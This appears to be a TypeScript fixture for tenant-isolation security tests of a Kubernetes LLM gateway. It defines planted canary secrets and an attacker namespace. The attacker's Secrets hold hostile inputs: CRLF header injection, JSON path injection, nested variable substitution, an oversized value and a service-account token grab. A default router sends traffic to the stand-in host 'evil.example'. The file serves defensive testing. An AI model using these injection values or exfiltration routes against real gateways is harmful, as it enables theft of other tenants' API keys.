const API = 'llmgateway.io/v1alpha1'

/** The namespace whose keys are attacked. */
export const VICTIM = 'team-a'
/** The attacker's namespace. The attacker has edit rights there and no others. */
export const ATTACKER = 'team-b'
export const GATEWAYS = 'llm'

/** A value that no status, event, ConfigMap or log may show. */
export const PLANTED = 'planted-0451'

export function router(namespace: string, name: string, spec: object): object {
  const whole = {
    gatewayRef: { name: 'main', namespace: GATEWAYS },
    outbound: { url: 'https://evil.example/' },
    ...spec,
  }
  return { apiVersion: API, kind: 'Router', metadata: { name, namespace }, spec: whole }
}

function gateway(name: string, spec: object): object {
  return { apiVersion: API, kind: 'LLMGateway', metadata: { name, namespace: GATEWAYS }, spec }
}

export function secret(namespace: string, name: string, stringData: object, more: object = {}): object {
  return { apiVersion: 'v1', kind: 'Secret', metadata: { name, namespace }, stringData, ...more }
}

export function fromSecret(variable: string, name: string, key: string): object {
  return { name: variable, valueFrom: { secretKeyRef: { name, key } } }
}

const everybody = { from: 'All' }

/** The resources of platform and victim before the attacks. */
export const setting: readonly object[] = [
  secret(GATEWAYS, 'azure', { key: `${PLANTED}-shared` }),
  secret(GATEWAYS, 'process', { a: `${PLANTED}-process` }),
  secret(VICTIM, 'own', { key: `${PLANTED}-victim` }),
  gateway('main', {
    allowedRouters: { namespaces: everybody },
    env: [fromSecret('PROCESS_KEY', 'process', 'a')],
    sharedEnv: [
      { ...fromSecret('KEY', 'azure', 'key'), hosts: ['res.example'], namespaces: everybody },
      { name: 'BASE', value: 'https://res.example/', namespaces: everybody },
      {
        ...fromSecret('KEY_OF_A', 'azure', 'key'),
        hosts: ['res.example'],
        namespaces: { from: 'Selector', selector: { matchLabels: { team: 'a' } } },
      },
      { name: 'ONLY_SAME', value: `${PLANTED}-same` },
    ],
  }),
  gateway('open', { allowedRouters: { namespaces: everybody, paths: 'Any' } }),
  gateway('closed', {}),
  gateway('picky', { allowedRouters: { namespaces: everybody, hosts: ['res.example'] } }),
  router(VICTIM, 'chat', {
    path: `/${VICTIM}/chat/`,
    ingress: { headers: { 'Api-Key': ['${CALLERS}'] } },
    outbound: { url: '${BASE}', headers: { 'Api-Key': ['${KEY_OF_A}'] } },
    env: [fromSecret('CALLERS', 'own', 'key')],
  }),
  router(VICTIM, 'open', {
    gatewayRef: { name: 'open', namespace: GATEWAYS },
    path: '/service/chat/',
    outbound: { url: 'https://res.example/' },
  }),
]

/** The objects that the attacker makes in its own namespace before the attacks. */
export const preparations: readonly object[] = [
  secret(ATTACKER, 'mine', {
    host: 'res.example',
    evil: 'evil.example',
    nested: '${NATS_TOKEN}${V_96a554ac1f36f144}$KEY',
    lines: `${PLANTED}\r\nAuthorization: x`,
    json: '"]}},{"path":"/team-a/chat/deep/"}',
    key: `${PLANTED}-attacker`,
    large: 'x'.repeat(20_000),
  }),
  secret(
    ATTACKER,
    'robot',
    {},
    {
      metadata: {
        name: 'robot',
        namespace: ATTACKER,
        annotations: { 'kubernetes.io/service-account.name': 'mallory' },
      },
      type: 'kubernetes.io/service-account-token',
    },
  ),
]
